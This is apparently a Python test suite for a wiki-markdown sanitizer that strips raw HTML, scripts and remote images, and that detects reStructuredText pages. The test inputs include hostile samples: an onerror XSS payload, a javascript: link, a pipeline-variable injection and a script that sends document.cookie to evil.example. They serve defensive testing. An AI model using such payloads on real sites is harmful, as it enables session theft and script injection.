"""A wiki page's markdown is someone else's: its own syntax said in words, no raw HTML, nothing loaded from afar."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from doc_context.text.codespans import fence_open_at_end
from doc_context.text.neutralize import neutralize
from doc_context.text.rstmd import restructured
from doc_context.text.wikimd import MAX_CHARS, wiki_to_markdown


def md(text: str) -> str:
    return wiki_to_markdown(text).text


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        ("[[_TOC_]]\n\nIntro.", "Intro."),
        ("Intro.\n\n[[_TOSP_]]", "Intro."),
        ("A\n\n::: mermaid\ngraph LR\n  A-->B\n:::\n\nB", "A\n\n_(a Mermaid diagram is on the page)_\n\nB"),
        ("A\n:::mermaid\nsequenceDiagram\n:::", "A\n_(a Mermaid diagram is on the page)_"),
        ("::: video\n<iframe src='https://www.youtube.com/embed/x'></iframe>\n:::", "_(a video is on the page)_"),
        ("::: query-table 6ff7777e-8ca5-4f04-a7f6-9e63737dddf7\n:::", "_(a table of query results is on the page)_"),
        ("::: mermaid\ngraph LR\nA-->B", "_(a Mermaid diagram is on the page)_"),  # never closed: to the end
        ("![Flow](/.attachments/flow-3f2a.png)", "(image: Flow)"),
        ("![](.attachments/x.png)", "(image)"),
        ("![Chart](https://evil.example/track.png)", "[image: Chart](https://evil.example/track.png)"),
        ("See [the sheet](/.attachments/sheet.xlsx).", "See the sheet (attachment)."),
        ("See [Other page](/Payments/Other-page).", "See Other page."),
        (
            "See [docs](https://docs.example/a) and [top](#steps).",
            "See [docs](https://docs.example/a) and [top](#steps).",
        ),
        ('Logo <img src="https://evil.example/t.png" alt="Fabrikam"> here', "Logo (image: Fabrikam) here"),
        ("<img src=x onerror=alert(1)>Text", "Text"),
        ("Before<script>alert('x')</script>After", "BeforeAfter"),
        ("A<style>p{color:red}</style>B<!-- hidden\ncomment -->C", "ABC"),
        ("<div><b>Bold</b> and <span style='color:red'>red</span></div>", "Bold and red"),
        ('<a href="https://docs.example/x">the docs</a>', "[the docs](https://docs.example/x)"),
        ('<a href="javascript:alert(1)">click</a>', "click"),
        ("<iframe src='https://evil.example'></iframe>Rest", "Rest"),
        ("---\ntitle: Split tender\ntags:\n- payments\n---\n# Split tender\n\nText", "# Split tender\n\nText"),
        ("```python\nx = '<script>'\n```", "```python\nx = '<script>'\n```"),  # code stays as written
        ("Intro\n\n```\nnever closed <b>", "Intro\n\n```\nnever closed <b>\n```"),
        ("~~~~\ncode\n~~~", "~~~~\ncode\n~~~\n~~~~"),
        (  # a fence right under a short line opens code (CommonMark), no title's underline: nothing after it is code
            "Or:\n```\nchoco install agent\n```\nThe refund window is 14 days.\n\n## Limits\n\nA second approver.",
            "Or:\n```\nchoco install agent\n```\nThe refund window is 14 days.\n\n## Limits\n\nA second approver.",
        ),
    ],
)
def test_wiki_syntax_and_html_are_read_safely(page: str, expected: str) -> None:
    assert md(page) == expected


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        ("a\n\n  x <object object at 0x1> y\n\nb para after", "a\n\n  x <object object at 0x1> y\n\nb para after"),
        ("pip install <package>\n\nnext", "pip install <package>\n\nnext"),
        ("Each has <service name>:<port number>.", "Each has <service name>:<port number>."),
        (
            "cat > a.conf <<EOF\n[DEFAULT]\nEOF\n$> cat > b.conf <<EOF",
            "cat > a.conf <<EOF\n[DEFAULT]\nEOF\n$> cat > b.conf <<EOF",
        ),
        ("A <span>real</span> tag, a <package> placeholder", "A real tag, a <package> placeholder"),
        ("The `<b>` element", "The `<b>` element"),  # a code span is code
        ("Intro\n\n    <b>bold</b>\n\nAfter", "Intro\n\n    <b>bold</b>\n\nAfter"),  # so is an indented block
        ("- item\n\n    <b>more</b> of it", "- item\n\n    more of it"),  # a list item's paragraph is not
        ("<object data='x.swf'>fallback\nstill\n\nNext.", "Next."),  # unclosed: to its paragraph's end
        ("<script>alert(1)\n\nNext.", "Next."),
        ("<svg><rect/></svg>Shown", "Shown"),
    ],
    ids=[
        "repr",
        "placeholder",
        "placeholders",
        "heredoc",
        "element",
        "span",
        "indented",
        "list",
        "unclosed",
        "script",
        "closed",
    ],
)
def test_what_is_no_tag_stays_and_no_tag_swallows_the_page(page: str, expected: str) -> None:
    assert md(page) == expected


def test_a_page_past_the_limit_is_read_to_a_line_end_and_says_so() -> None:
    line = "Rounding happens once, on the order total. " * 4 + "\n"
    page = line * (MAX_CHARS // len(line) + 10)
    got = wiki_to_markdown(page)
    assert got.cut and len(got.text) <= MAX_CHARS and got.text.rstrip().endswith("total.")
    assert not wiki_to_markdown(line * 3).cut


def test_hostile_markdown_leaves_nothing_live_after_neutralize() -> None:
    page = (
        "<img src='https://evil.example/pixel.gif'>\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n"
        "![x](https://evil.example/x.png) @<6f1c2d0e-0000-0000-0000-000000000001> ##vso[task.setvariable variable=a]b\n"
        "```\nunclosed fence swallowing the rest"
    )
    shown = neutralize(md(page))
    assert "<img" not in shown and "<script" not in shown and "![" not in shown
    assert "@<" not in shown and "##vso[" not in shown
    assert fence_open_at_end(shown) is None


@given(st.text(max_size=2000))
def test_any_page_converts_with_no_fence_left_open_and_no_tag_left(text: str) -> None:
    out = md(text)
    assert fence_open_at_end(neutralize(out)) is None
    outside_code = re.sub(r"(?ms)^\s{0,3}(`{3,}|~{3,}).*?^\s{0,3}\1", "", out)
    assert not re.search(r"<(script|iframe|style)\b", outside_code, re.I)


RST_TITLE = "=====\nTitle\n=====\n\n"  # an overlined title: only reStructuredText adorns a title so


@pytest.mark.parametrize(
    ("page", "markdown", "read"),
    [
        ("_Read the [FAQ]_ before filing.", "_Read the [FAQ]_ before filing.", "_Read the before filing."),
        (
            "Intro\n\n>>> quoted reply from Bob\n>>> more",
            "Intro\n\n>>> quoted reply from Bob\n>>> more",
            "Intro\n\n```pycon\n>>> quoted reply from Bob\n>>> more\n```",
        ),
        (
            "Steps:\n\n.. then we continue\nmore text",
            "Steps:\n\n.. then we continue\nmore text",
            "Steps:\n\nmore text",
        ),
        (
            "Warning :warning:`rm` removes files",
            "Warning :warning:`rm` removes files",
            "Warning `rm` removes files",
        ),
    ],
    ids=["note-mark", "nested-quote", "dot-dot-line", "emoji-before-code"],
)
def test_restructuredtext_rules_apply_only_to_a_page_written_in_it(page: str, markdown: str, read: str) -> None:
    """An Azure DevOps wiki page is markdown: a `.. ` line, a `>>>` quote, `[FAQ]_` and `:warning:` before a code
    span stay as written. The same lines on a page whose shape is reStructuredText's are read as it."""
    assert md(page) == markdown
    assert md(f"## Notes\n\n{page}\n\n.. note:: Read once.") == f"## Notes\n\n{markdown}\n\n.. note:: Read once."
    assert md(RST_TITLE + page) == RST_TITLE + read
    assert wiki_to_markdown(page, rst=True).text == read


@pytest.mark.parametrize(
    ("page", "rst"),
    [
        ("Title\n~~~~~\n\nText.", True),
        ("=====\nTitle\n=====\n\nText.", True),
        (":Author: Ann\n:Status: Draft\n\nText.", True),
        ("Text.\n\n.. note::\n\n   Read once.", True),
        ("Run it::\n\n    run --now", True),
        ("See `the docs <https://docs.example/a>`_.", True),
        ("Text [1]_.\n\n.. [1] A footnote.", True),
        ("# Title\n\nText.\n\n.. note::\n\n   Read once.", False),  # a markdown heading
        ("Title\n=====\n\nText.\n\nMore\n----", False),  # setext: markdown's too
        (":warning: Careful\n\nText.", False),
        ("Or:\n```\ncode\n```\nText.", False),
        ("Steps:\n\n.. then we continue", False),
        ("PEP: 9\nTitle: A rule\nContent-Type: text/x-rst\n\nAbstract\n========\n\nText.", True),  # declared
        ("PEP: 9\nTitle: A rule\n\nAbstract\n========\n\nText.", False),  # no rST-only mark: markdown reads it
        ("Notes\n\nContent-Type: text/x-rst is what we send.", False),  # no header: a sentence
    ],
)
def test_a_page_is_restructuredtext_by_its_shape(page: str, rst: bool) -> None:
    assert restructured(page.split("\n")) is rst
